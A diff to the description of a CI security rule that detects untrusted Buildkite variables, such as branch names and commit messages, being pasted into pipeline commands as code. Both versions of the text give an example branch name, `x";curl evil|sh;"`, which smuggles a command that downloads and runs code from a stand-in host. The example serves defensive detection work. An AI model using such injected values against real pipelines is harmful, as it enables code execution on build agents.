@@ -1,12 +1,12 @@
 # METADATA
 # title: Untrusted variable interpolated at pipeline upload
 # description: |
-#   `buildkite-agent pipeline upload` replaces `$VAR`, `${VAR}`, `${VAR:-x}` and `${VAR?}`
-#   in the whole pipeline before any shell runs. When a command (or a plugin's command)
-#   names a variable whose value the person pushing a branch or opening a pull request
-#   chooses (`$BUILDKITE_BRANCH`, `$BUILDKITE_MESSAGE`, `BUILDKITE_PULL_REQUEST_*`, author
-#   names) with a single `$`, that text is pasted into the job's script as code: a branch
-#   named `x";curl evil|sh;"` runs, and quoting does not help. In agent tags it lets them
+#   A command or agent tag names a variable whose value a branch pusher or pull-request
+#   author chooses (`$BUILDKITE_BRANCH`, `${BUILDKITE_MESSAGE}`) with a single `$`, so
+#   pipeline upload pastes that text into the job as code. `buildkite-agent pipeline upload`
+#   replaces `$VAR`, `${VAR}`, `${VAR:-x}` and `${VAR?}` in the whole pipeline before any
+#   shell runs: in a command (or a plugin's command) a branch named `x";curl evil|sh;"`
+#   runs, and quoting does not help. In agent tags it lets them
 #   pick the agents that run the job. `$$VAR` (the shell reads it at run time) is not
 #   reported, nor a trigger step's `build:` (`message`, `branch` … are data), labels, or
 #   step `env` values (data the shell does not parse; see `check_env`).
